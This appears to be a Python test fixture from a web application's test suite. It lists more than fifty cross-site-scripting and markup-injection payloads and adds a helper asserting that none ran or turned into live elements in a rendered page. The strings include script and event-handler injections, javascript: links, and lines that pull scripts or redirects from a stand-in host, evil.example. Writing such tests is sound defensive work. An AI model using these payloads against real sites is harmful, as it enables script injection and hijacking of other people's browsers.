"""Texts that would run a script or fetch something where a page took them for markup."""

from __future__ import annotations

from typing import Any

HACK = "window.hacked=1"
HOSTILE = [
    f"<script>{HACK}</script>",
    f"</script><script>{HACK}</script>",
    f"<img src=x onerror={HACK}>",
    f'"><img src=x onerror={HACK}>',
    f"'><img src=x onerror={HACK}>",
    f"<svg onload={HACK}>",
    f"</svg><svg/onload={HACK}>",
    f"<svg><script>{HACK}</script></svg>",
    f"<body onload={HACK}>",
    f"<iframe srcdoc='<script>parent.{HACK}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HACK}></iframe>",
    f"<a href=javascript:{HACK}>x</a>",
    f"[x](javascript:{HACK})",
    f"[x](JaVaScRiPt:{HACK})",
    f"![x](x onerror={HACK})",
    f"<javascript:{HACK}>",
    f"<https://evil.example/?{HACK}>",
    f"[x]: javascript:{HACK}\n\n[x]",
    f"<details open ontoggle={HACK}>",
    f"<input autofocus onfocus={HACK}>",
    f"<select autofocus onfocus={HACK}>",
    f"<textarea autofocus onfocus={HACK}>",
    f"<video><source onerror={HACK}></video>",
    f"<audio src=x onerror={HACK}>",
    f"<object data=javascript:{HACK}></object>",
    f"<embed src=javascript:{HACK}>",
    f"<form action=javascript:{HACK}><input type=submit></form>",
    "<form action=http://evil.example/><input name=x></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HACK}'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<div style='background:url(http://evil.example/x)'>",
    "<img src=http://evil.example/x>",
    "<script src=http://evil.example/x.js></script>",
    f"<math><mtext></mtext><script>{HACK}</script></math>",
    f"<noscript><p title='</noscript><img src=x onerror={HACK}>'>",
    f"<template><script>{HACK}</script></template>",
    f"<xmp><img src=x onerror={HACK}></xmp>",
    f"<!--><img src=x onerror={HACK}>-->",
    f"<![CDATA[><img src=x onerror={HACK}>]]>",
    f"{{{{ ''.__class__ }}}}<img src=x onerror={HACK}>",
    f"{{% raw %}}<img src=x onerror={HACK}>{{% endraw %}}",
    f"${{{HACK}}}`;{HACK};//",
    f'";{HACK};//',
    f"';{HACK};//",
    f"\\u003cimg src=x onerror={HACK}\\u003e",
    f"\u2028{HACK}\u2028//",
    f"&lt;img src=x onerror={HACK}&gt;",
    f"```html\n<img src=x onerror={HACK}>\n```",
    f"\x1b]8;;javascript:{HACK}\x07x\x1b]8;;\x07",
    f"data: {HACK}\n\nevent: news\ndata: {{}}\n\n",
]
assert len(HOSTILE) >= 50


def assert_only_text(page: Any, where: str, inside: str = "main") -> None:
    """Nothing of the texts has run, and none has become an element that could run."""
    assert page.evaluate("window.hacked") is None, where
    assert page.locator(f"iframe, object, embed, {inside} img, {inside} script").count() == 0, where
    refreshing = "a[href^='javascript' i], base, meta[http-equiv=refresh i]"
    assert page.locator(refreshing).count() == 0, where
